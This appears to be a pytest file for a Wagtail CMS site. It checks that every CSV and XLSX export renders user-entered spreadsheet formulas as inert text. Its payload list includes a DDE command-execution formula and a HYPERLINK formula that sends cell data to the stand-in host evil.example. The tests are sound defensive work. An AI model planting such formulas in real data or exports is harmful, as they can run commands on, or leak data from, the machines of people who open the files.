"""No cell of any export is a formula, whatever someone has typed into the site.

Every list and report that the URL resolver knows is exported, Wagtail's own among them.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect

from home import reports
from tests.factories import AlertFactory, EnquiryFactory, PartnershipPageFactory
from tests.stockton_cms.permissions.addresses import SKIPPED, addresses, patterns
from tests.stockton_cms.permissions.world import OWN, make_person, make_world

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＠SUM(A1)",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.fixture
def full_site(home, section):
    """Return the addresses of all exports of a site that is full of formulas."""
    officer = make_person("administrator")
    things = make_world(home, section, officer)[OWN]
    for number, formula in enumerate(FORMULAS):
        officer.first_name = officer.last_name = formula
        officer.save()
        page = PartnershipPageFactory(
            parent=section, title=formula, lead_officer=formula, owner=officer
        )
        page.locked = True
        page.locked_by = officer
        page.save()
        page.save_revision(user=officer, log_action=True).publish(user=officer)
        AlertFactory(heading=formula).save_revision(user=officer, log_action=True)
        EnquiryFactory(message=formula, query=formula)
        Redirect.objects.create(old_path=f"{formula}{number}", redirect_link=formula)
    found = {
        address.path
        for pattern in patterns()
        if pattern.name not in SKIPPED
        for address in addresses(pattern, things, OWN)
        if address.name.endswith(" exported")
    }
    return officer, sorted(found)


def cells_of(client, path):
    """Return the cells of a CSV file, and those of the XLSX that are formulas."""
    response = client.get(path)
    if response.status_code != 200 or "csv" not in response["Content-Type"]:
        return None
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    workbook = client.get(path.replace("export=csv", "export=xlsx"))
    sheet = load_workbook(io.BytesIO(b"".join(workbook.streaming_content))).active
    typed = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return cells, typed


def test_formulas_are_text_in_every_export(client, full_site, record_property):
    officer, paths = full_site
    client.force_login(officer)
    asked, seen, wrong = 0, set(), []
    for path in paths:
        if found := cells_of(client, path):
            cells, typed = found
            asked += 1
            wrong += [(path, cell) for cell in cells if cell.startswith(STARTS)]
            wrong += [(path, cell.value) for cell in typed]
            seen |= {cell for cell in cells if "1+1" in cell or "SUM" in cell}
    record_property(
        "measured", f"{len(FORMULAS)} payloads, {asked} reports, {len(wrong)} formulas"
    )
    assert wrong == []
    assert asked > 12
    assert len(seen) >= len(FORMULAS) - 3


def test_wagtails_own_reports_would_hold_formulas(client, full_site, monkeypatch):
    """Prove that it is our look at each cell which keeps them out."""
    officer, _ = full_site
    client.force_login(officer)
    monkeypatch.setattr(reports, "as_safe_cell", lambda value, is_csv: value)
    path = reverse("wagtailadmin_reports:site_history") + "?export=csv"
    cells, _ = cells_of(client, path)
    assert any(cell.startswith(STARTS) for cell in cells)
